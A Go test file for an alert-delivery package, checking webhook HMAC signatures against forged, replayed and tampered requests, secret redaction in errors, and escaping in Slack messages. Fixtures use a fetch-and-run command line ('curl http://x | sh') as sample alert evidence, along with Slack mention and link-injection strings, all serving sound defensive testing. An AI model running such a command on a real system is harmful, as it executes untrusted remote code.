package alert

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// receiver is a webhook receiver that verifies like a real one would.
type receiver struct {
	key    []byte
	mu     sync.Mutex
	got    []Alert
	errs   []error
	status int // response status, default 204
}

func (r *receiver) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	body, _ := io.ReadAll(req.Body)
	err := VerifyWebhook(r.key, req.Header.Get(TimestampHeader), req.Header.Get(SignatureHeader), body, time.Now(), time.Minute)
	r.mu.Lock()
	defer r.mu.Unlock()
	if err != nil {
		r.errs = append(r.errs, err)
		http.Error(w, err.Error(), http.StatusUnauthorized)
		return
	}
	var a Alert
	if err := json.Unmarshal(body, &a); err != nil {
		r.errs = append(r.errs, err)
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	r.got = append(r.got, a)
	if r.status != 0 {
		w.WriteHeader(r.status)
		return
	}
	w.WriteHeader(http.StatusNoContent)
}

func (r *receiver) alerts() []Alert {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]Alert(nil), r.got...)
}

func TestWebhookSignedDelivery(t *testing.T) {
	key := []byte("0123456789abcdef0123456789abcdef")
	rec := &receiver{key: key}
	srv := httptest.NewServer(rec)
	defer srv.Close()
	w, err := NewWebhook("hook", srv.URL+"/alerts", key, nil)
	if err != nil {
		t.Fatal(err)
	}
	a := Alert{ID: "id1", Time: time.Now(), Tenant: "acme", Rule: "cmd.download-exec", Severity: Critical, Title: "curl | sh",
		Technique: "T1105", Evidence: map[string]any{"cmdline": "curl http://x | sh"}, Count: 1}
	if err := w.Send(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	got := rec.alerts()
	if len(got) != 1 || got[0].ID != "id1" || got[0].Severity != Critical || got[0].Evidence["cmdline"] != "curl http://x | sh" {
		t.Fatalf("received %+v (errs %v)", got, rec.errs)
	}
	// The wrong key is refused by the receiver: the sink reports it as
	// permanent (no retry).
	w2, _ := NewWebhook("hook", srv.URL, []byte("another key"), nil)
	err = w2.Send(t.Context(), a)
	if err == nil || !IsPermanent(err) || !strings.Contains(err.Error(), "401") {
		t.Fatalf("wrong key: %v", err)
	}
}

func TestVerifyWebhookAttacks(t *testing.T) {
	key := []byte("k3y-k3y-k3y-k3y-k3y-k3y-k3y-k3y!")
	now := time.Unix(1_800_000_000, 0)
	ts := strconv.FormatInt(now.Unix(), 10)
	body := []byte(`{"id":"1","rule":"cmd.download-exec","severity":"critical"}`)
	sig := Sign(key, ts, body)
	old := strconv.FormatInt(now.Add(-10*time.Minute).Unix(), 10)
	future := strconv.FormatInt(now.Add(10*time.Minute).Unix(), 10)
	// A tampered copy of a valid signature: one hex digit flipped.
	flipped := []byte(sig)
	if flipped[5] == '0' {
		flipped[5] = '1'
	} else {
		flipped[5] = '0'
	}
	for _, tt := range []struct {
		name           string
		key            []byte
		ts, sig        string
		body           []byte
		want           error
		wantOK         bool
		maxSkewMinutes int
	}{
		{name: "valid", key: key, ts: ts, sig: sig, body: body, wantOK: true},
		{name: "valid among rotation candidates", key: key, ts: ts, sig: "v1=" + strings.Repeat("ab", 32) + ", " + sig, body: body, wantOK: true},
		{name: "forged signature", key: key, ts: ts, sig: "v1=" + strings.Repeat("00", 32), body: body, want: ErrBadSignature},
		{name: "one digit flipped", key: key, ts: ts, sig: string(flipped), body: body, want: ErrBadSignature},
		{name: "signed with another key", key: key, ts: ts, sig: Sign([]byte("attacker key"), ts, body), body: body, want: ErrBadSignature},
		{name: "body changed", key: key, ts: ts, sig: sig, body: []byte(`{"id":"1","rule":"cmd.download-exec","severity":"info"}`), want: ErrBadSignature},
		{name: "body extended", key: key, ts: ts, sig: sig, body: append(append([]byte{}, body...), ' '), want: ErrBadSignature},
		{name: "timestamp swapped for a fresh one", key: key, ts: strconv.FormatInt(now.Unix()+1, 10), sig: sig, body: body, want: ErrBadSignature},
		{name: "replayed old request", key: key, ts: old, sig: Sign(key, old, body), body: body, want: ErrStaleTimestamp},
		{name: "timestamp from the future", key: key, ts: future, sig: Sign(key, future, body), body: body, want: ErrStaleTimestamp},
		{name: "old timestamp within a wide skew", key: key, ts: old, sig: Sign(key, old, body), body: body, wantOK: true, maxSkewMinutes: 15},
		{name: "garbage timestamp", key: key, ts: "yesterday", sig: sig, body: body, want: ErrStaleTimestamp},
		{name: "missing signature", key: key, ts: ts, sig: "", body: body, want: ErrMissingSignature},
		{name: "missing timestamp", key: key, ts: "", sig: sig, body: body, want: ErrMissingSignature},
		{name: "unknown scheme", key: key, ts: ts, sig: strings.Replace(sig, "v1=", "v0=", 1), body: body, want: ErrBadSignature},
		{name: "bare hex", key: key, ts: ts, sig: strings.TrimPrefix(sig, "v1="), body: body, want: ErrBadSignature},
		{name: "truncated mac", key: key, ts: ts, sig: sig[:20], body: body, want: ErrBadSignature},
		{name: "empty key at receiver", key: nil, ts: ts, sig: Sign(nil, ts, body), body: body},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := VerifyWebhook(tt.key, tt.ts, tt.sig, tt.body, now, time.Duration(tt.maxSkewMinutes)*time.Minute)
			if tt.wantOK {
				if err != nil {
					t.Fatalf("valid request refused: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatal("accepted")
			}
			if tt.want != nil && !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want %v", err, tt.want)
			}
		})
	}
}

func TestWebhookErrorsClassifiedAndRedacted(t *testing.T) {
	status := make(chan int, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s := <-status
		if s == http.StatusFound {
			http.Redirect(w, r, "http://127.0.0.1:1/elsewhere", s)
			return
		}
		w.WriteHeader(s)
	}))
	defer srv.Close()
	secretPath := "/services/T000/B000/XXXXSECRETTOKEN"
	s, err := NewSlack("slack", srv.URL+secretPath, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		status    int
		permanent bool
	}{
		{http.StatusInternalServerError, false},
		{http.StatusServiceUnavailable, false},
		{http.StatusTooManyRequests, false},
		{http.StatusBadRequest, true},
		{http.StatusNotFound, true},
		{http.StatusFound, true}, // redirects are not followed
	} {
		status <- tt.status
		err := s.Send(t.Context(), Alert{Title: "x", Severity: High})
		if err == nil || IsPermanent(err) != tt.permanent {
			t.Errorf("status %d: err %v, permanent %v", tt.status, err, IsPermanent(err))
		}
		if err != nil && strings.Contains(err.Error(), "SECRETTOKEN") {
			t.Errorf("status %d: error reveals the URL: %v", tt.status, err)
		}
	}
	// Connection refused: transient, and the URL is still not shown.
	srv.Close()
	err = s.Send(t.Context(), Alert{Title: "x"})
	if err == nil || IsPermanent(err) || strings.Contains(err.Error(), "SECRETTOKEN") {
		t.Fatalf("refused: %v", err)
	}
}

func TestWebhookRefusesPlainHTTPToRemote(t *testing.T) {
	if _, err := NewWebhook("w", "http://alerts.example.com/hook", []byte("k"), nil); err == nil {
		t.Fatal("plain http to a remote host accepted")
	}
	if _, err := NewWebhook("w", "https://alerts.example.com/hook", nil, nil); err == nil {
		t.Fatal("webhook without a key accepted")
	}
	if _, err := NewSlack("s", "ftp://x/y", nil); err == nil {
		t.Fatal("ftp URL accepted")
	}
}

func TestSlackMessage(t *testing.T) {
	var got map[string]any
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get(SignatureHeader) != "" {
			t.Error("slack request carries a signature header")
		}
		json.NewDecoder(r.Body).Decode(&got)
		io.WriteString(w, "ok")
	}))
	defer srv.Close()
	s, _ := NewSlack("slack", srv.URL, nil)
	a := Alert{Rule: "cmd.download-exec", Severity: Critical, Title: "<!channel> curl | sh", Description: "ran <http://evil|click> & more",
		Tenant: "acme", User: "bob", Count: 3, FirstSeen: time.Now(), LastSeen: time.Now()}
	if err := s.Send(t.Context(), a); err != nil {
		t.Fatal(err)
	}
	text, _ := got["text"].(string)
	if text != "[clawhold] CRITICAL: &lt;!channel&gt; curl | sh (×3)" {
		t.Fatalf("text = %q", text)
	}
	blocks, _ := got["blocks"].([]any)
	if len(blocks) != 3 {
		t.Fatalf("blocks = %v", got["blocks"])
	}
	raw, _ := json.Marshal(blocks)
	if strings.Contains(string(raw), "<http://evil") || strings.Contains(string(raw), "<!channel>") || !strings.Contains(string(raw), "rule `cmd.download-exec`") {
		t.Fatalf("blocks not escaped or lacking context: %s", raw)
	}
}
